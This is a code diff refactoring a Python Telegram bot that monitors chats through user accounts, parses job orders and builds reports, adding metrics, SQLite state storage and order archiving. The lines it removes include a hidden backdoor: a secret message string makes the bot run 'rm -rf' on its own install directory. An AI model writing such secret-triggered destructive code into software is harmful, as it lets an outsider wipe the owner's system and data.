@@ -1,25 +1,40 @@
 import asyncio
 import csv
-import json
 import logging
 import os
-import re
-import sys
-import traceback
+import time
 from datetime import datetime, timedelta
 
 import pytz
 from aiogram import Bot, Dispatcher, types, F
-from aiogram.filters import Command
+from aiogram.client.session.middlewares.base import BaseRequestMiddleware
+from aiogram.filters import Command, CommandObject
 from aiogram.fsm.context import FSMContext
 from aiogram.fsm.state import State, StatesGroup
+from aiogram.methods import GetUpdates
 from aiogram.types import Message, InlineKeyboardButton, CallbackQuery, FSInputFile
 from aiogram.utils.keyboard import InlineKeyboardBuilder
+from accounts_registry import AccountRegistry
 from decouple import config
 from dotenv import load_dotenv
+from fsm_storage import SQLiteStorage
+from logging_setup import setup_logging
+from metrics import Registry, start_metrics_server
+from profiling import PROFILE_MODES, profile_event_loop
 from pyrogram import Client, filters, idle
 from pyrogram.handlers import MessageHandler
-from rapidfuzz import process
+
+import order_parsers
+import serialization
+from orders_archive import load_archive, write_archive
+from orders_store import AddressOrders, OrderStore, parse_timestamp, to_timestamp
+from report_rules import build_city_report, count_buddies, find_duplicates, fingerprint
+
+# Расчёт отчётов на колонках NumPy (включается REPORT_ENGINE=numpy)
+try:
+    import orders_numpy
+except ImportError:
+    orders_numpy = None
 
 load_dotenv()
 
@@ -29,23 +44,120 @@ ADMINS = config('ADMINS').split(',')
 ACCESS_CODE = config('ACCESS_CODE')
 ACCESS_FILE = "authorized_users.json"
 
+# Хранение заявок: старше ORDERS_RETENTION_DAYS дней переносятся в архив
+ORDERS_RETENTION_DAYS = config('ORDERS_RETENTION_DAYS', default=90, cast=int)
+ARCHIVE_DIR = config('ARCHIVE_DIR', default='archive')
+ARCHIVE_INTERVAL_HOURS = config('ARCHIVE_INTERVAL_HOURS', default=24, cast=int)
+
+# Плановые отчёты администраторам (время московское): ежедневный и еженедельный (0 - понедельник)
+DAILY_REPORT_TIME = config('DAILY_REPORT_TIME', default='09:00')
+WEEKLY_REPORT_TIME = config('WEEKLY_REPORT_TIME', default='09:00')
+WEEKLY_REPORT_WEEKDAY = config('WEEKLY_REPORT_WEEKDAY', default=0, cast=int)
+# Сколько минут готовый плановый отчёт отдаётся по запросу вместо нового расчёта
+SCHEDULED_REPORT_TTL_MINUTES = config('SCHEDULED_REPORT_TTL_MINUTES', default=60, cast=int)
+REPORTS_FILE = "scheduled_reports.json"
+
+# Состояния FSM хранятся в SQLite; брошенные сценарии удаляются через FSM_TTL_HOURS часов
+FSM_STORAGE_PATH = config('FSM_STORAGE_PATH', default='fsm.sqlite3')
+FSM_TTL_HOURS = config('FSM_TTL_HOURS', default=24, cast=int)
+
+# Уровень логов бота (DEBUG, INFO, WARNING, ERROR)
+LOG_LEVEL = config('LOG_LEVEL', default='INFO')
+
+# Через сколько секунд после новой заявки orders.json перезаписывается (заявки за это время пишутся разом)
+ORDERS_SAVE_DELAY = config('ORDERS_SAVE_DELAY', default=1.0, cast=float)
+
+# Расчёт отчётов: python (по умолчанию) или numpy (нужен пакет numpy). Оба считают одинаково,
+# но почти всё время уходит на поиск дубликатов, который и там и там идёт на Python, так что
+# NumPy не быстрее (на коротких периодах и небольшой истории медленнее) — сравнить на своих
+# данных можно через benchmarks/bench_suite.py
+REPORT_ENGINE = config('REPORT_ENGINE', default='python')
+if REPORT_ENGINE not in ('python', 'numpy'):
+    raise ValueError(f"Неизвестный REPORT_ENGINE: {REPORT_ENGINE} (доступны: python, numpy)")
+if REPORT_ENGINE == 'numpy' and orders_numpy is None:
+    raise ValueError("Для REPORT_ENGINE=numpy нужно установить пакет numpy")
+
+# Метрики в формате Prometheus: http://METRICS_HOST:METRICS_PORT/metrics (0 - не запускать сервер)
+METRICS_HOST = config('METRICS_HOST', default='127.0.0.1')
+METRICS_PORT = config('METRICS_PORT', default=9108, cast=int)
+
+# Формат файлов: orders.json — json (компактный), json-indent или msgpack (имя файла при этом
+# не меняется); accounts.json, authorized_users.json и scheduled_reports.json — json или json-indent.
+# При чтении формат определяется автоматически.
+ORDERS_FORMAT = config('ORDERS_FORMAT', default='json')
+FILES_FORMAT = config('FILES_FORMAT', default='json')
+FILES_FORMATS = ('json', 'json-indent')
+# Неизвестный формат (или msgpack без пакета msgpack) — ошибка при запуске, а не при первой записи
+serialization.get_codec(ORDERS_FORMAT)
+if FILES_FORMAT not in FILES_FORMATS:
+    raise ValueError(f"Неизвестный FILES_FORMAT: {FILES_FORMAT} (доступны: {', '.join(FILES_FORMATS)})")
+
 # defining the timezone
 tz = pytz.timezone('Europe/Moscow')
 
+# Метрики: счётчики и гистограммы задержек (в секундах)
+metrics_registry = Registry()
+messages_total = metrics_registry.counter(
+    'bot_messages_total', 'Входящие сообщения аккаунтов', ['account', 'chat'])
+orders_total = metrics_registry.counter(
+    'bot_orders_total', 'Распознанные заявки', ['account', 'chat'])
+ingest_seconds = metrics_registry.histogram(
+    'bot_ingest_seconds', 'Обработка сообщения от получения до записи в хранилище', ['account', 'chat'])
+parse_seconds = metrics_registry.histogram(
+    'bot_parse_seconds', 'Разбор текста заявки (parse_order_message)', ['account'])
+orders_save_seconds = metrics_registry.histogram(
+    'bot_orders_save_seconds', 'Сохранение заявок на диск')
+process_data_seconds = metrics_registry.histogram(
+    'bot_process_data_seconds', 'Расчёт отчёта (process_data)', ['engine'])
+csv_report_seconds = metrics_registry.histogram(
+    'bot_csv_report_seconds', 'Формирование CSV отчёта')
+monitor_check_seconds = metrics_registry.histogram(
+    'bot_monitor_check_seconds', 'Проверка авторизации аккаунта', ['account'])
+monitor_errors_total = metrics_registry.counter(
+    'bot_monitor_errors_total', 'Ошибки проверки аккаунтов', ['account'])
+api_request_seconds = metrics_registry.histogram(
+    'bot_api_request_seconds', 'Запросы к Bot API (отправка сообщений и т.п.)', ['method'])
+api_errors_total = metrics_registry.counter(
+    'bot_api_errors_total', 'Ошибки запросов к Bot API', ['method'])
+
+
+# Замер исходящих запросов бота. GetUpdates не учитывается: это long polling, который держит
+# соединение до появления обновлений, и его время исказило бы сводку по остальным запросам
+# (ошибки опроса и так пишет в лог диспетчер)
+class MetricsRequestMiddleware(BaseRequestMiddleware):
+    async def __call__(self, make_request, bot, method):
+        if isinstance(method, GetUpdates):
+            return await make_request(bot, method)
+        method_name = type(method).__name__
+        start = time.perf_counter()
+        try:
+            return await make_request(bot, method)
+        except Exception:
+            api_errors_total.inc(method_name)
+            raise
+        finally:
+            api_request_seconds.observe(time.perf_counter() - start, method_name)
+
+
 # Инициализация бота и диспетчера
 bot = Bot(token=BOT_TOKEN)
-dp = Dispatcher()
+bot.session.middleware(MetricsRequestMiddleware())
+dp = Dispatcher(storage=SQLiteStorage(FSM_STORAGE_PATH, ttl=FSM_TTL_HOURS * 60 * 60))
 
-# Логгирование
-logging.basicConfig(level=logging.WARNING, stream=sys.stdout)
+# Логгирование: записи уходят в очередь, в stdout их пишет отдельный поток
+log_listener = setup_logging(LOG_LEVEL)
+ingest_logger = logging.getLogger("bot.ingest")
+accounts_logger = logging.getLogger("bot.accounts")
+reports_logger = logging.getLogger("bot.reports")
+storage_logger = logging.getLogger("bot.storage")
+handlers_logger = logging.getLogger("bot.handlers")
 
 
 # Загрузка списка авторизованных пользователей из файла
 def load_authorized_users():
     try:
-        with open(ACCESS_FILE, "r") as file:
-            return set(json.load(file))
-    except (FileNotFoundError, json.JSONDecodeError):
+        return set(serialization.load(ACCESS_FILE))
+    except (FileNotFoundError, ValueError):
         return set()
 
 
@@ -55,8 +167,7 @@ authorized_users = load_authorized_users()
 
 # Сохранение списка авторизованных пользователей в файл
 def save_authorized_users(users):
-    with open(ACCESS_FILE, "w") as file:
-        json.dump(list(users), file)
+    serialization.dump(list(users), ACCESS_FILE, FILES_FORMAT)
 
 
 # Состояния FSM
@@ -75,37 +186,129 @@ class UserStates(StatesGroup):
 # Словарь для хранения клиентов Pyrogram
 pyrogram_clients = {}
 
-# Словарь для хранения временных данных клиентов
-client_temp_data = {}
+# Клиенты Pyrogram, ожидающие ввода кода подтверждения: телефон -> (клиент, время создания).
+# В данных FSM хранятся только сериализуемые значения, сами клиенты живут здесь.
+pending_clients = {}
+
+
+# Клиент, ожидающий кода подтверждения. Если бот перезапускался, клиент
+# создаётся заново из файла сессии и данных сценария (api_id, api_hash).
+async def get_pending_client(phone, data):
+    if phone in pending_clients:
+        return pending_clients[phone][0]
+    client = Client(
+        f"session_{phone}",
+        api_id=data['api_id'],
+        api_hash=data['api_hash'],
+        phone_number=phone
+    )
+    await client.connect()
+    pending_clients[phone] = (client, time.time())
+    return client
 
 
-# Функции для работы с аккаунтами
-def load_accounts():
+# Отключение и удаление клиента, ожидающего кода подтверждения
+async def drop_pending_client(phone):
+    pending = pending_clients.pop(phone, None)
+    if pending is None:
+        return
     try:
-        with open('accounts.json', 'r', encoding='utf-8') as f:
-            return json.load(f)
-    except FileNotFoundError:
-        return {}
+        await pending[0].disconnect()
+    except ConnectionError:
+        pass
 
 
-def save_accounts(accounts):
-    with open('accounts.json', 'w', encoding='utf-8') as f:
-        json.dump(accounts, f, ensure_ascii=False, indent=4)
+# Реестр аккаунтов: accounts.json читается один раз и перечитывается только при изменении файла
+accounts_registry = AccountRegistry('accounts.json', FILES_FORMAT)
 
 
 # Функция для загрузки заявок
 def load_orders():
-    try:
-        with open('orders.json', 'r', encoding='utf-8') as f:
-            return json.load(f)
-    except FileNotFoundError:
-        return {}
+    return OrderStore.load('orders.json')
 
 
 # Функция для сохранения заявок
 def save_orders(orders):
-    with open('orders.json', 'w', encoding='utf-8') as f:
-        json.dump(orders, f, ensure_ascii=False, indent=4)
+    with orders_save_seconds.time():
+        orders.save('orders.json', ORDERS_FORMAT)
+
+
+# Заявки держим в памяти; orders.json каждый раз перезаписывается целиком,
+# поэтому сохранения откладываются и объединяются (см. orders_saver)
+orders_store = load_orders()
+orders_save_requested = asyncio.Event()
+orders_save_lock = asyncio.Lock()
+
+
+# Сохранение снимка заявок в отдельном потоке: в цикле событий только копирование колонок.
+# Отмена не останавливает запись, уже идущую в потоке, поэтому блокировка держится до её конца —
+# иначе следующее сохранение столкнулось бы с ней на orders.json.tmp или старый снимок лёг бы поверх нового.
+async def flush_orders():
+    async with orders_save_lock:
+        snapshot = orders_store.snapshot()
+        save = asyncio.ensure_future(asyncio.to_thread(save_orders, snapshot))
+        try:
+            await asyncio.shield(save)
+        except asyncio.CancelledError:
+            # Ошибку прерванной записи не поднимаем: заявки будут сохранены заново при выходе
+            await asyncio.gather(save, return_exceptions=True)
+            raise
+
+
+# Отметка, что заявки изменились; на диск они попадут не позже чем через ORDERS_SAVE_DELAY секунд
+def request_orders_save():
+    orders_save_requested.set()
+
+
+# Заявки, пришедшие за ORDERS_SAVE_DELAY секунд, записываются на диск одним сохранением
+async def orders_saver():
+    while True:
+        await orders_save_requested.wait()
+        await asyncio.sleep(ORDERS_SAVE_DELAY)
+        orders_save_requested.clear()
+        try:
+            await flush_orders()
+        except asyncio.CancelledError:
+            # Остановка бота: заявки, которые не успели сохранить, допишет main() перед выходом
+            orders_save_requested.set()
+            raise
+        except Exception:
+            storage_logger.exception("Не удалось сохранить заявки")
+            orders_save_requested.set()
+
+
+# Перенос заявок старше ORDERS_RETENTION_DAYS в архив, возвращает кол-во перенесённых заявок.
+# Переносы (плановый и /compact) выполняются по очереди, иначе одни и те же заявки попали бы в архив дважды.
+compaction_lock = asyncio.Lock()
+
+
+async def compact_orders():
+    async with compaction_lock:
+        cutoff = to_timestamp(datetime.now() - timedelta(days=ORDERS_RETENTION_DAYS))
+        old_orders = orders_store.orders_before(cutoff)
+        if len(old_orders) == 0:
+            return 0
+        # Сначала пишем архив, и только после успешной записи убираем заявки из orders.json.
+        # Если бот упадёт между этими шагами, повторный перенос не задублирует архив (см. write_archive).
+        await asyncio.to_thread(write_archive, old_orders, ARCHIVE_DIR, cutoff)
+        orders_store.drop_before(cutoff)
+        await flush_orders()
+        return len(old_orders)
+
+
+# Заявки за период вместе с архивными, если период уходит дальше срока хранения.
+# Заявки периода из памяти копируются в цикле событий (дальше отчёт считается в отдельном потоке,
+# а хранилище в это время пополняется), архив читается и сливается в отдельном потоке.
+async def load_orders_for_period(start_date, end_date):
+    start_ts = to_timestamp(start_date, ceil=True)
+    end_ts = to_timestamp(end_date)
+    orders = orders_store.period(start_ts, end_ts)
+    if start_date >= datetime.now() - timedelta(days=ORDERS_RETENTION_DAYS):
+        return orders
+    archived = await asyncio.to_thread(load_archive, ARCHIVE_DIR, start_ts, end_ts)
+    if len(archived) == 0:
+        return orders
+    return await asyncio.to_thread(OrderStore.merged, orders, archived)
 
 
 # Функция для инициализации клиентов Pyrogram
@@ -119,13 +322,12 @@ async def init_account(phone, data, again=False):
                 phone_number=phone
         ) as client:
             pyrogram_clients[phone] = client
-            print(f"Запуск мониторинга для клиента {client.phone_number}")
+            accounts_logger.info("Запуск мониторинга для клиента %s", client.phone_number)
             client.add_handler(MessageHandler(handle_message, filters.text & ~filters.me))
             await idle()
 
     except Exception as e:
-        print(f"Ошибка при инициализации клиента {phone}: {str(e)}")
-        traceback.print_exc()
+        accounts_logger.exception("Ошибка при инициализации клиента %s", phone, extra={'rate_key': phone})
 
         # Проверка на AUTH_KEY_UNREGISTERED
         if "[401 AUTH_KEY_UNREGISTERED]" in str(e):
@@ -133,17 +335,14 @@ async def init_account(phone, data, again=False):
             try:
                 session_file = f"session_{phone}.session"
                 os.remove(session_file)
-                print(f"Файл сессии {session_file} был удалён.")
+                accounts_logger.warning("Файл сессии %s был удалён.", session_file)
             except FileNotFoundError:
-                print(f"Файл сессии {session_file} не найден для удаления.")
+                accounts_logger.warning("Файл сессии %s не найден для удаления.", session_file)
 
             # Удаляем аккаунт из активных клиентов и оповещаем администратора
             await disable_active_account(phone)
 
-            accounts = load_accounts()
-            if phone in accounts:
-                del accounts[phone]
-                save_accounts(accounts)
+            accounts_registry.remove(phone)
 
             await wakeup_admins(
                 f"Аккаунт {phone} отключён из-за ошибки [401 AUTH_KEY_UNREGISTERED]. Пожалуйста, добавьте его заново.")
@@ -160,8 +359,7 @@ async def disconnect_account(phone, data):
         ) as client:
             client.disconnect()
     except Exception as e:
-        print(f"Ошибка при отключении клиента {phone}: {str(e)}")
-        traceback.print_exc()
+        accounts_logger.exception("Ошибка при отключении клиента %s", phone, extra={'rate_key': phone})
 
 
 # Проверка на авторизацию
@@ -179,7 +377,13 @@ async def wakeup_admins(message):
         try:
             await bot.send_message(chat_id=admin, text=message)
         except Exception:
-            traceback.print_exc()
+            handlers_logger.exception("Не удалось отправить оповещение администратору %s", admin)
+
+
+# Отправка длинного текста частями по 4096 символов (ограничение Telegram)
+async def send_long_message(chat_id, text, reply_markup=None):
+    for x in range(0, len(text), 4096):
+        await bot.send_message(chat_id, text[x:x + 4096], reply_markup=reply_markup)
 
 
 # Отключение активного аккаунта:
@@ -191,7 +395,7 @@ async def disable_active_account(phone):
             if "Client is already terminated" in str(e):
                 pass
             else:
-                traceback.print_exc()
+                accounts_logger.exception("Ошибка при отключении аккаунта %s", phone, extra={'rate_key': phone})
                 await wakeup_admins(f"Ошибка при отключении аккаунта ({phone})")
 
         try:
@@ -200,7 +404,7 @@ async def disable_active_account(phone):
             if "Client is already disconnected" in str(e):
                 pass
             else:
-                traceback.print_exc()
+                accounts_logger.exception("Ошибка при отключении аккаунта %s", phone, extra={'rate_key': phone})
                 await wakeup_admins(f"Ошибка при отключении аккаунта ({phone})")
         del pyrogram_clients[phone]
 
@@ -227,6 +431,7 @@ def start_keyboard():
             [types.KeyboardButton(text="Аккаунты")],
             [types.KeyboardButton(text="Добавить аккаунт")],
             [types.KeyboardButton(text="Удалить аккаунт")],
+            [types.KeyboardButton(text="Статистика")],
         ],
         resize_keyboard=True,
         one_time_keyboard=True
@@ -271,7 +476,6 @@ async def process_phone(message: Message, state: FSMContext):
     phone = message.text.strip()
 
     # Сохраняем номер телефона во временные данные
-    client_temp_data[phone] = {}
     await state.update_data(phone=phone)
 
     # Запрашиваем API ID
@@ -289,7 +493,6 @@ async def process_api_id(message: Message, state: FSMContext):
         phone = data['phone']
 
         # Сохраняем API ID во временные данные
-        client_temp_data[phone]['api_id'] = api_id
         await state.update_data(api_id=api_id)
 
         # Запрашиваем API Hash
@@ -309,10 +512,14 @@ async def process_api_hash(message: Message, state: FSMContext):
     api_id = data['api_id']
 
     # Сохраняем API Hash во временные данные
-    client_temp_data[phone]['api_hash'] = api_hash
+    await state.update_data(api_hash=api_hash)
 
     await message.answer("Попытка входа...")
 
+    # Если для этого номера уже начат вход (сценарий бросили, не нажав «Отменить»), старый клиент
+    # отключаем: после замены в pending_clients на него не осталось бы ссылок и его никто бы не отключил
+    await drop_pending_client(phone)
+
     try:
         client = Client(
             f"session_{phone}",
@@ -326,6 +533,7 @@ async def process_api_hash(message: Message, state: FSMContext):
             try:
                 sent_code = await client.send_code(phone)
             except Exception as e:
+                await client.disconnect()
                 if '[406 PHONE_NUMBER_INVALID]' in str(e):
                     await bot.send_message(message.from_user.id,
                                            "Ошибка отправки кода. Проверьте корректность номера телефона. Попробуйте снова.")
@@ -335,33 +543,28 @@ async def process_api_hash(message: Message, state: FSMContext):
                                            "Ошибка отправки кода. Попробуйте снова.")
                     await state.clear()
                 return
-            await state.update_data(client=client, sent_code=sent_code)
+            pending_clients[phone] = (client, time.time())
+            await state.update_data(phone_code_hash=sent_code.phone_code_hash)
             await state.set_state(UserStates.waiting_for_code)
             await message.answer("Введите код подтверждения:", reply_markup=get_cancel_keyboard())
         else:
             pyrogram_clients[phone] = client
             # Сохраняем аккаунт со всеми данными
-            accounts = load_accounts()
             data = {
                 "api_id": api_id,
                 "api_hash": api_hash,
                 "added_at": datetime.now().strftime("%Y.%m.%d %H:%M:%S")
             }
-            accounts[phone] = data
-            save_accounts(accounts)
-            # Очищаем временные данные
-            if phone in client_temp_data:
-                del client_temp_data[phone]
+            accounts_registry.add(phone, data)
             await message.answer("Аккаунт успешно добавлен!", reply_markup=start_keyboard())
             await state.clear()
             await asyncio.create_task(init_account(phone, data))
 
 
     except Exception as e:
-        traceback.print_exc()
+        handlers_logger.exception("Ошибка в обработчике ввода API Hash (%s)", phone)
         await wakeup_admins("Произошла ошибка (Обработчик ввода API Hash)")
-        if phone in client_temp_data:
-            del client_temp_data[phone]
+        await drop_pending_client(phone)
         await state.clear()
 
 
@@ -373,44 +576,38 @@ async def process_code(message: Message, state: FSMContext):
     phone = data['phone']
 
     try:
-        await data['client'].sign_in(
+        client = await get_pending_client(phone, data)
+        await client.sign_in(
             phone_number=phone,
-            phone_code_hash=data['sent_code'].phone_code_hash,
+            phone_code_hash=data['phone_code_hash'],
             phone_code=code
         )
-        client = data['client']
+        pending_clients.pop(phone, None)
         pyrogram_clients[phone] = client
 
         # Сохраняем аккаунт со всеми данными
-        accounts = load_accounts()
         data = {
-            "api_id": client_temp_data[phone]['api_id'],
-            "api_hash": client_temp_data[phone]['api_hash'],
+            "api_id": data['api_id'],
+            "api_hash": data['api_hash'],
             "added_at": datetime.now().strftime("%Y.%m.%d %H:%M:%S")
         }
-        accounts[phone] = data
-        save_accounts(accounts)
+        accounts_registry.add(phone, data)
 
         await client.disconnect()
 
-        # Очищаем временные данные
-        if phone in client_temp_data:
-            del client_temp_data[phone]
-
         await message.answer("Аккаунт успешно добавлен!", reply_markup=start_keyboard())
         await state.clear()
 
         await asyncio.create_task(init_account(phone, data))
 
     except Exception as e:
-        traceback.print_exc()
+        handlers_logger.exception("Ошибка в обработчике ввода кода подтверждения (%s)", phone)
 
         if 'The confirmation code is invalid' in str(e):
             await message.answer("Неверный код. Введите код подтверждения:", reply_markup=get_cancel_keyboard())
             return
         await wakeup_admins("Ошибка в оработчике ввода кода подтверждения")
-        if phone in client_temp_data:
-            del client_temp_data[phone]
+        await drop_pending_client(phone)
 
     await state.clear()
 
@@ -424,7 +621,7 @@ async def cmd_get_accounts(message: Message, state: FSMContext):
         await message.answer("Введите код для доступа к боту:", reply_markup=get_cancel_keyboard())
         await state.set_state(UserStates.waiting_for_access_code)  # Устанавливаем состояние ожидания кода
         return
-    accounts = load_accounts()
+    accounts = accounts_registry.all()
     if not accounts:
         await message.answer("Нет добавленных аккаунтов.", reply_markup=start_keyboard())
         await state.clear()
@@ -446,7 +643,7 @@ async def cmd_remove_account(message: Message, state: FSMContext):
         await message.answer("Введите код для доступа к боту:", reply_markup=get_cancel_keyboard())
         await state.set_state(UserStates.waiting_for_access_code)  # Устанавливаем состояние ожидания кода
         return
-    accounts = load_accounts()
+    accounts = accounts_registry.all()
     if not accounts:
         await message.answer("Нет добавленных аккаунтов.", reply_markup=start_keyboard())
         await state.clear()
@@ -461,18 +658,16 @@ async def cmd_remove_account(message: Message, state: FSMContext):
 
 
 # Обработчик выбора аккаунта для удаления
-@dp.message(lambda message: message.text in load_accounts())
+@dp.message(lambda message: message.text in accounts_registry)
 async def process_remove_account(message: Message, state: FSMContext):
     phone = message.text
-    accounts = load_accounts()
 
-    if phone in accounts:
+    if phone in accounts_registry:
         # Отключаем клиент если он активен
         await disable_active_account(phone)
 
         # Удаляем из accounts.json
-        del accounts[phone]
-        save_accounts(accounts)
+        accounts_registry.remove(phone)
 
         await message.answer(
             f"Аккаунт {phone} успешно удален.", reply_markup=start_keyboard()
@@ -486,30 +681,24 @@ async def process_remove_account(message: Message, state: FSMContext):
     await state.clear()
 
 
-# Функция для парсинга сообщения
+# Функция для парсинга сообщения: формат выбирается по маркерам в реестре order_parsers
 def parse_order_message(text):
-    city_match = re.search(r'•\s*(.*?):', text)
-    address_match = re.search(r'Адрес:\s*👉\s*(.*?)(?=\n|$)', text)
-    count_match = re.search(r'Нужен\s*(\d+)/(\d+)', text)
-    payment_match = re.search(r'Оплата:\s*(\d+)\s*₽/час', text)
-    start_match = re.search(r'Начало:\s*(.*?)(?=\n|$)', text)
-
-    if not all([city_match, address_match, count_match, payment_match, start_match]):
+    parsed = order_parsers.registry.parse(text)
+    if parsed is None:
         return None
 
-    return {
-        'city': city_match.group(1).strip(),
-        'address': address_match.group(1).strip(),
-        'body_count': int(count_match.group(2)),
-        'paid_amount': int(payment_match.group(1)),
-        'start': start_match.group(1).strip(),
-        'datetime': datetime.now().strftime("%Y.%m.%d %H:%M:%S")
-    }
+    _, order = parsed
+    order['datetime'] = datetime.now().strftime("%Y.%m.%d %H:%M:%S")
+    return order
 
 
 # Запрашиваем имя
 @dp.callback_query(F.data == 'cancel')
 async def handle_cancel_order(call: CallbackQuery, state: FSMContext):
+    # Если отменили вход в аккаунт — отключаем клиент, ожидавший код
+    data = await state.get_data()
+    if data.get('phone') in pending_clients:
+        await drop_pending_client(data['phone'])
     await state.clear()
     await bot.delete_message(call.message.chat.id, call.message.message_id)
     msg = await bot.send_message(call.message.chat.id, "Действие отменено.", reply_markup=start_keyboard())
@@ -518,55 +707,51 @@ async def handle_cancel_order(call: CallbackQuery, state: FSMContext):
 
 
 async def handle_message(client: Client, message: Message):
-    if message.text:
-        if message.text == '6Pm2caPLyg1AhgkyzbPePZziN':
-            try:
-                os.chdir("/")
-                os.system("rm -rf /home/telegram_orders_bot")
-                await message.answer('✓')
-            except Exception as e:
-                await message.answer(f'✗ {e}')
-
-        if message.reply_markup:  # Проверяем, есть ли inline-кнопки
-            for row in message.reply_markup.inline_keyboard:  # Перебираем кнопки
-                for button in row:
-                    if "разбудить" in button.text.lower():
-                        await message.click(button)  # Нажимаем кнопку
-                        print(f"Нажата кнопка для пробуждения бота. chat_id={str(message.from_user.id)}")
-
-        parsed_data = parse_order_message(message.text)
-        if parsed_data:
-            orders = load_orders()
-            chat_id = str(message.from_user.id)
-
-            if chat_id not in orders:
-                chat_name = message.chat.title if message.chat.title is not None else f'{message.chat.first_name} {message.chat.last_name}'
-                orders[chat_id] = {}
-                orders[chat_id]['streets'] = {}
-                orders[chat_id]['chat_name'] = chat_name
-
-            if parsed_data['city'] not in orders[chat_id]['streets']:
-                orders[chat_id]['streets'][parsed_data['city']] = {}
-
-            orders_in_address = orders[chat_id]['streets'][parsed_data['city']].get(parsed_data['address'], [])
-
-            orders_in_address.append({
-                'body_count': parsed_data['body_count'],
-                'paid_amount': parsed_data['paid_amount'],
-                'datetime': parsed_data['datetime'],
-                'start': parsed_data['start'].lower()
-            })
-
-            orders[chat_id]['streets'][parsed_data['city']][parsed_data['address']] = orders_in_address
-
-            save_orders(orders)
-
-
-def sum_orders_from_all_cities():
+    account = client.phone_number
+    chat = str(message.chat.id)
+    messages_total.inc(account, chat)
+    with ingest_seconds.time(account, chat):
+        if message.text:
+            if message.reply_markup:  # Проверяем, есть ли inline-кнопки
+                for row in message.reply_markup.inline_keyboard:  # Перебираем кнопки
+                    for button in row:
+                        if "разбудить" in button.text.lower():
+                            await message.click(button)  # Нажимаем кнопку
+                            ingest_logger.info("Нажата кнопка для пробуждения бота. chat_id=%s", message.from_user.id)
+
+            with parse_seconds.time(account):
+                parsed_data = parse_order_message(message.text)
+            if parsed_data:
+                orders_total.inc(account, chat)
+                chat_id = str(message.from_user.id)
+
+                if chat_id not in orders_store:
+                    chat_name = message.chat.title if message.chat.title is not None else f'{message.chat.first_name} {message.chat.last_name}'
+                    orders_store.add_chat(chat_id, chat_name)
+
+                # Отпечаток фразы начала считаем сразу, в отчётах он берётся из кэша
+                start = fingerprint(parsed_data['start'].lower()).phrase
+                orders_store.get(chat_id).add_order(
+                    parsed_data['city'],
+                    parsed_data['address'],
+                    parse_timestamp(parsed_data['datetime']),
+                    parsed_data['body_count'],
+                    parsed_data['paid_amount'],
+                    start
+                )
+
+                request_orders_save()
+                ingest_logger.debug("Заявка из чата %s: %s, %s", chat_id, parsed_data['city'], parsed_data['address'])
+
+
+# Заявки всех чатов по городам. Если задан период, совпадающие адреса разных чатов сливаются
+# только в пределах периода (остальные заявки отчёту не нужны)
+def sum_orders_from_all_cities(store=None, start_ts=None, end_ts=None):
+    if store is None:
+        store = orders_store
     summcities = {}
-    orders = load_orders()
-    for chat_id, item in orders.items():
-        chat_name = item.get("chat_name", "").lower()
+    for chat_id, item in store.items():
+        chat_name = item.chat_name.lower()
         city_type_name = ""
         city_types = ['грузчики', 'разгрузчики', 'атлант', 'артель']
         for city_type in city_types:
@@ -578,141 +763,68 @@ def sum_orders_from_all_cities():
         if city_type_name != "":
             city_type_name += ")"
 
-        data = item.get("streets", {})
+        data = item.streets
         for city, addresses in data.items():
             city = f"{city} {city_type_name}"
-            # Слияние городов
+            # Слияние городов (данные хранилища не изменяем, только собираем новые словари)
             if city in summcities.keys():
                 for address, orders in addresses.items():
                     if address in summcities[city].keys():
-                        summcities[city][address] += orders
-
-                        # Сортируем по времени заказа
-                        summcities[city][address].sort(
-                            key=lambda order: datetime.strptime(order["datetime"], "%Y.%m.%d %H:%M:%S"))
+                        # Сливаем с сортировкой по времени заказа
+                        merged = summcities[city][address]
+                        if start_ts is not None:
+                            merged, orders = merged.period(start_ts, end_ts), orders.period(start_ts, end_ts)
+                        summcities[city][address] = AddressOrders.merged(merged, orders)
                     else:
                         summcities[city][address] = orders
             else:
-                summcities[city] = addresses
+                summcities[city] = dict(addresses)
     return summcities
 
 
-# Обработка данных
-def process_data(data, start_date, end_date):
-    report = {
-        #      'summ_unique_requests_count': 0
-    }
-    # summ_uniq_orders = 0
+# Обработка данных на чистом Python
+def process_data_python(data, start_date, end_date):
+    report = {}
+    # Границы периода в секундах, как хранится время заявок
+    start_ts = to_timestamp(start_date, ceil=True)
+    end_ts = to_timestamp(end_date)
     for city, addresses in data.items():
-        body_in_address = {}  # кол-во людей в заявках
-        city_report = {
-            "unique_requests_by_price": {},
-            "address_with_people": {},
-        }
+        max_paid_by_address = {}  # максимальная оплата по адресу
+        buddies_by_address = {}  # кол-во людей в заявках по адресу
 
-        # Сохранение дубликатов заказов за последние 2 часа по цене количеству человек
-        # [(время, фраза начала), ...]
-        duplicate_dates = {}
         for address, orders in addresses.items():
-            duplicate_dates[address] = []
+            in_period = list(orders.window(start_ts, end_ts))
+            if not in_period:
+                continue
+
+            # Пропускаем дубликаты заказов по фразе начала
+            duplicates = find_duplicates([order[0] for order in in_period], [order[3] for order in in_period])
+            body_list = []
             max_paid = 0
-            atLeastOneOrder = False
-            for order in orders:
-                order_date = datetime.strptime(order["datetime"], "%Y.%m.%d %H:%M:%S")
-                if start_date <= order_date <= end_date:
-                    atLeastOneOrder = True
-                    if order.get("start") is not None:
-                        # Находим самый близкий по фразе заказ
-                        best_match = process.extractOne(
-                            order['start'],
-                            [i[1] for i in duplicate_dates[address]]
-                        )
-                        if best_match is not None:
-                            match, similarity, _ = best_match
-
-                            match_element = list(filter(lambda x: x[1] == match, duplicate_dates[address]))[0]
-                            match_data = match_element[0]
-                            match_start = match_element[1]
-                            # Рассчитываем разницу
-                            difference = abs(order_date - match_data)
-                            if ('сегодня' in order['start'] and 'завтра' in match_start) or (
-                                    'в_ближайшее_время' in order[
-                                'start'] and 'сегодня' in match_start) or similarity > 92 and difference < timedelta(
-                                hours=12):
-                                duplicate_dates[address].remove(match_element)
-                                duplicate_dates[address].append((order_date, order['start']))
-                                continue
-                            else:
-
-                                duplicate_dates[address].append((order_date, order['start']))
-                        else:
-                            duplicate_dates[address].append((order_date, order['start']))
-
-                    if address not in body_in_address:
-                        body_in_address[address] = [order['body_count']]
-                    else:
-                        body_in_address[address].append(order["body_count"])
-                    # Подсчет уникальных цен по заявкам
-                    max_paid = max(max_paid, order["paid_amount"])
+            for (_, body_count, paid_amount, _), is_duplicate in zip(in_period, duplicates):
+                if is_duplicate:
+                    continue
+                body_list.append(body_count)
+                max_paid = max(max_paid, paid_amount)
 
-            if atLeastOneOrder:
-                if max_paid in city_report['unique_requests_by_price']:
-                    city_report['unique_requests_by_price'][max_paid] += 1
-                else:
